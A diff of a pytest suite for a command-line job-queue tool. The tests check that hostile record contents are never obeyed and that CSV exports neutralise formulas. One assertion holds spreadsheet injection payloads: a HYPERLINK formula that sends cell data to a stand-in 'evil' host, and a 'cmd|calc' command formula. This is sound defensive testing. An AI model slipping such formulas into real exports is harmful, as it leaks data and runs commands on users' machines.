@@ -139,6 +139,8 @@ def test_every_command_is_walked():
 @pytest.mark.parametrize(("command", "arguments"), RUNS)
 def test_nothing_is_obeyed(hostile, command, arguments, where, tmp_path, monkeypatch):
     if where == "terminal":
+        if command == "check":
+            pytest.skip("takes seconds, and prints the same")
         monkeypatch.setattr("click.testing._NamedTextIOWrapper.isatty", lambda _: True)
         monkeypatch.setenv("TERM", "xterm")
     if command in WITHOUT_WORK:
@@ -157,7 +159,7 @@ def test_nothing_is_obeyed(hostile, command, arguments, where, tmp_path, monkeyp
     [
         pytest.param(command, lines[0], id=command)
         for command, lines in COMMANDS.items()
-        if command not in ("work", "deliver")
+        if command not in ("work", "deliver", "check")
     ],
 )
 def test_json_says_the_same_escaped(hostile, command, arguments, tmp_path):
@@ -184,23 +186,25 @@ def _texts(value):
 @pytest.mark.parametrize(
     "record",
     [
+        {"mode": "trust", "refuted": {"why": HOSTILE}},
         {"mode": HOSTILE},
         {"mode": "trust", "lease": HOSTILE},
-        {"mode": "trust", "refuted": {"why": HOSTILE}},
         {"mode": "trust", "id": HOSTILE},
         [HOSTILE],
         HOSTILE,
     ],
 )
-@pytest.mark.parametrize("command", ["work", "status", "check", "init"])
-def test_nothing_of_the_agreement_is_obeyed(local, record, command):
+def test_nothing_of_the_agreement_is_obeyed(local, record):
     local.put("_queue", "queue.json", data=json.dumps(record).encode())
     local.put("00_waiting", "a")
-    more = {"work": ["--", "true"], "check": ["--rounds", "2", "--record"]}.get(command, [])
-    result = CliRunner().invoke(main, [command, local.url, *more])
-    assert isinstance(result.exception, SystemExit | None), result.exception
-    told = result.stdout + result.stderr
-    assert [what for what, text in OBEYED.items() if text in told] == []
+    lines = [["work", local.url, "--", "true"], ["status", local.url], ["init", local.url]]
+    if "refuted" in record:
+        lines.append(["check", local.url, "--rounds", "2", "--record"])
+    for line in lines:
+        result = CliRunner().invoke(main, line)
+        assert isinstance(result.exception, SystemExit | None), result.exception
+        told = result.stdout + result.stderr
+        assert [what for what, text in OBEYED.items() if text in told] == []
 
 
 # -- completion --------------------------------------------------------------------------------
@@ -299,3 +303,19 @@ def test_a_result_is_no_formula(local):
     raw = local.run("results", "--csv", "--raw")
     assert '"=HYPERLINK(""http://evil/?""&A1)",+1+cmd|calc,"-2+3\n=1"' in raw
     assert "--raw is for --csv" in local.refused("results", "--raw")
+
+
+# -- jobs that are called as something of ours is ------------------------------------------------
+
+
+def test_a_job_called_like_a_part_of_its_workspace(far):
+    """By URL the job's file is fetched into a folder where more than it is."""
+    names = ["out0", "results", "job", "note.json"]
+    far.put("00_waiting", *names, data=b"content")
+    script = (
+        '[ "$(cat "$1")" = content ] && [ -z "$(ls -A "$DIRJOBS_OUT")" ]'
+        ' && echo x > "$DIRJOBS_OUT/$2"'
+    )
+    far.run("work", "--", "sh", "-c", script, "sh", "{}", "{name}")
+    assert far.jobs() == {"02_done": sorted(names)}
+    assert [far.names(f"results/{name}") for name in sorted(names)] == [[n] for n in sorted(names)]
